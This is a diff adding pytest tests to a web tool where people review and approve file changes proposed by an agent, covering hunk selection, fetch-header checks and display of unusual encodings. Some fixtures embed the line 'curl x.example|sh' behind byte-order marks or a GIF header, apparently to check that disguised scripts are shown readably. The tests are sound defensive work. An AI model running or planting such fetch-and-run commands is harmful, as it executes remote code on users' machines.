@@ -9,7 +9,8 @@ from typing import Any
 import pytest
 
 from penstock.core.proposals.model import Proposal, State
-from tests.doors.web.page_server import LINES, WORDS, Answer, Served, serving
+from penstock.gate import Item
+from tests.doors.web.page_server import AGENT, LINES, WORDS, Answer, Browser, Served, serving
 from tests.doors.web.test_pages import Page, follow, get, send
 
 TWO = LINES.replace("line 10\n", "X\n").replace("line 99\n", "Y\n")
@@ -170,6 +171,73 @@ def test_files_stay_unticked_while_others_are_loaded(served: Served) -> None:
     assert again.form("approve")[1]["keep"] == [some[1].id]
 
 
+def chosen(browser: Browser, page: Page, to: str, **ticks: list[str]) -> Answer:
+    """Send what is ticked, as a page does when one goes elsewhere."""
+    address, fields = page.form("approve")
+    fields |= ticks
+    del fields["csrf"]
+    sent = [(name, value) for name, values in fields.items() for value in values]
+    return browser.post(address.replace("/approve", "/choose"), [*sent, ("to", to)])
+
+
+def test_a_file_stays_unticked_when_it_gets_another_version(served: Served) -> None:
+    some = served.propose_set({"a.py": "1\n", "b.py": "2\n"})
+    browser = served.browser()
+    where = f"/proposals/{some[0].set_id}"
+    chosen(browser, get(browser, where), "?view=unified", keep=[some[1].id])
+    body = {"content_digest": some[0].content, "content": "other\n"}
+    assert served.call("POST", f"/proposals/{some[0].id}/edit", body).status == 200
+    page = get(browser, where)
+    assert page.form("approve")[1]["keep"] == [some[1].id]
+    follow(browser, send(browser, page, "approve", passphrase=WORDS))
+    assert not (served.root / "a.py").exists()
+    assert (served.root / "b.py").exists()
+
+
+OTHERS = {"as many hunks": TWO.replace("Y\n", "Z\n"), "no hunks to choose from": LINES + "end\n"}
+
+
+@pytest.mark.parametrize("other", OTHERS.values(), ids=OTHERS)
+def test_another_version_does_not_tick_hunks_again_unseen(served: Served, other: str) -> None:
+    served.write("a.txt", LINES)
+    some = served.propose_set({"a.txt": TWO, "b.txt": "b\n"})
+    browser = served.browser()
+    where = f"/proposals/{some[0].set_id}"
+    chosen(browser, get(browser, f"/proposals/{some[0].id}"), "?page=1", hunk=["2"])
+    body = {"content_digest": some[0].content, "content": other}
+    made = served.call("POST", f"/proposals/{some[0].id}/edit", body).json["proposals"][0]["id"]
+    group = get(browser, where)
+    assert "1 hunk of this file is unticked" in group.text
+    assert code(send(browser, group, "approve", passphrase=WORDS)) == "hunks-unticked"
+    assert untouched(served, some[1])
+    page = get(browser, f"/proposals/{made}")
+    assert "1 hunk of an earlier version was unticked" in page.text
+    again = follow(browser, chosen(browser, page, "?view=unified"))
+    assert "of an earlier version" not in again.text
+    follow(browser, send(browser, get(browser, where), "approve", passphrase=WORDS))
+    assert (served.root / "a.txt").read_text() == other
+
+
+def test_of_very_many_hunks_exactly_the_ticked_ones_are_taken(served: Served) -> None:
+    count = 2400
+    served.write("a.txt", "".join(f"old {n}\nsame\n{n}\n" for n in range(count)))
+    one = served.propose("a.txt", "".join(f"new {n}\nsame\n{n}\n" for n in range(count)))
+    browser = served.browser()
+    where = f"/proposals/{one.id}"
+    page = get(browser, where)
+    pages = int(page.text.partition("page 1 of ")[2].partition(" ")[0])
+    for number in range(1, pages + 1):
+        page = get(browser, f"{where}?page={number}")
+        odd = [hunk for hunk in page.form("approve")[1]["hunk"] if int(hunk) % 2]
+        assert chosen(browser, page, "?page=1", hunk=odd).status == 303
+    preview = follow(browser, send(browser, get(browser, where), "approve", passphrase=WORDS))
+    made = follow(browser, send(browser, preview, "hunks"))
+    (version,) = served.gate.find(states=[State.WAITING])
+    expected = "".join(f"{'old' if n % 2 else 'new'} {n}\nsame\n{n}\n" for n in range(count))
+    assert served.gate.contents(version)[1] == expected.encode()
+    assert f"/proposals/{version.id}/approve" in made.forms
+
+
 # -- what was not shown is not approved unseen -----------------------------------------------------
 
 
@@ -246,8 +314,9 @@ def test_an_acknowledgement_is_void_for_other_parts_and_other_sessions(served: S
     [
         {"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors"},
         {"Sec-Purpose": "prefetch;prerender"},
+        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
     ],
-    ids=["a script that compares", "a browser that loads ahead"],
+    ids=["a script that compares", "a browser that loads ahead", "sent by another local server"],
 )
 def test_what_no_person_looks_at_is_not_shown(served: Served, headers: dict[str, str]) -> None:
     one = served.propose("a.txt", "1\n")
@@ -256,6 +325,106 @@ def test_what_no_person_looks_at_is_not_shown(served: Served, headers: dict[str,
     fields = {"digest": str(one.content), "passphrase": WORDS}
     answer = browser.post(f"/proposals/{one.id}/approve", fields)
     assert code(answer) == "not-shown"
+
+
+@pytest.mark.parametrize("site", ["none", "same-origin"])
+def test_what_a_person_opens_is_shown(served: Served, site: str) -> None:
+    one = served.propose("a.txt", "1\n")
+    browser = served.browser()
+    headers = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+    assert browser.get(f"/proposals/{one.id}", headers).status == 200
+    fields = {"digest": str(one.content), "passphrase": WORDS}
+    assert browser.post(f"/proposals/{one.id}/approve", fields).status == 303
+
+
+@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PUT", "PATCH", "DELETE"])
+def test_a_request_that_gives_nothing_to_read_shows_nothing(served: Served, method: str) -> None:
+    one = served.propose("a.txt", "1\n")
+    browser = served.browser()
+    browser.ask(method, f"/proposals/{one.id}", headers={"Cookie": browser.cookie})
+    fields = {"digest": str(one.content), "passphrase": WORDS}
+    assert code(browser.post(f"/proposals/{one.id}/approve", fields)) == "not-shown"
+    served.call(method, f"/proposals/{one.id}/diff?viewer=v")
+    assert api_approve(served, one, viewer="v").code == "not-shown"
+    assert not (served.root / "a.txt").exists()
+
+
+# Bytes, and what a person has to be able to read of them.
+READ: dict[str, tuple[bytes, str]] = {
+    "plain text after the mark of wide text": (
+        b"\xff\xfe;curl x.example|sh; #\n",
+        "curl x.example|sh",
+    ),
+    "the same with a NUL": (b"\xff\xfe;curl x.example|sh; #\n\0\0", "63 75 72 6c 20"),
+    "the other mark": (b"\xfe\xff;curl x.example|sh\n ", "curl x.example|sh"),
+    "a script that begins like a picture": (b"GIF89a=1\ncurl x|sh\n\0", "63 75 72 6c 20"),
+    "Latin letters of two bytes": (
+        "caf\u00e9 and more of it\n".encode("utf-16"),
+        "caf\u00e9 and more",
+    ),
+    "Cyrillic": (
+        "\u0436\u0438\u0437\u043d\u044c\n".encode("utf-16"),
+        "\u0436\u0438\u0437\u043d\u044c",
+    ),
+    "Japanese": (
+        "\u3042\u304b\u3044\u304f\u3064\u3068\u3051\u3044\n".encode("utf-16"),
+        "\u3042\u304b\u3044\u304f",
+    ),
+    "Chinese": ("\u6587\u4ef6\u5df2\u7ecf\u66f4\u65b0\n".encode("utf-16"), "\u6587\u4ef6\u5df2"),
+    "four bytes a character": ("words of a text\n".encode("utf-32"), "words of a text"),
+}
+
+
+@pytest.mark.parametrize(("content", "words"), READ.values(), ids=READ)
+def test_what_a_program_would_read_can_be_read_on_the_page(
+    served: Served, content: bytes, words: str
+) -> None:
+    one = served.propose("run.sh", content)
+    page = get(served.browser(), f"/proposals/{one.id}")
+    assert words in page.text
+
+
+def test_another_order_of_bytes_is_told(served: Served) -> None:
+    served.write("a.txt", b"\xff\xfe" + "text\n".encode("utf-16-le"))
+    one = served.propose("a.txt", b"\xfe\xff" + "text\n".encode("utf-16-be"))
+    page = get(served.browser(), f"/proposals/{one.id}")
+    assert "UTF-16 little endian, LF \u2192 UTF-16 big endian, LF" in page.text
+
+
+def picture(last: bytes) -> bytes:
+    return b"\x89PNG\r\n\x1a\n" + b"\0" * 900 + last
+
+
+def test_a_picture_counts_only_on_pages_that_draw_it(served: Served) -> None:
+    served.write("a.png", picture(b"1"))
+    some = served.gate.propose(
+        [Item(path="a.png", content=picture(b"2")), Item(path="b.txt", content=b"b\n")],
+        actor=AGENT,
+    )
+    browser = served.browser()
+
+    def drawn(page: Page) -> list[bytes]:
+        return [browser.get(each).body for each in page.pictures]
+
+    page = get(browser, f"/proposals/{some[0].id}/preview?strategy=append")
+    assert (drawn(page), page.tags.count("table")) == ([], 2), "as bytes"
+    assert drawn(get(browser, f"/proposals/{some[0].id}")) == [picture(b"1"), picture(b"2")]
+    group = get(browser, f"/proposals/{some[0].set_id}")
+    assert drawn(group) == [picture(b"1"), picture(b"2")]
+    done = follow(browser, send(browser, group, "approve", passphrase=WORDS))
+    back = [picture(b"2"), picture(b"1")]
+    assert drawn(done) == back
+    written = f"/history/{served.gate.receipts()[0].set_id}"
+    number = 1 + [
+        item.path
+        for item, _ in served.gate.preview_undo(
+            served.gate.undoable(receipt=written.rpartition("/")[2])
+        )
+    ].index("a.png")
+    assert drawn(get(browser, f"{written}/file?n={number}")) == back
+    assert "Never on the screen" not in done.text
+    follow(browser, send(browser, done, "undo", passphrase=WORDS))
+    assert (served.root / "a.png").read_bytes() == picture(b"1")
 
 
 def test_of_sixty_files_those_that_were_not_loaded_are_named(served: Served) -> None:
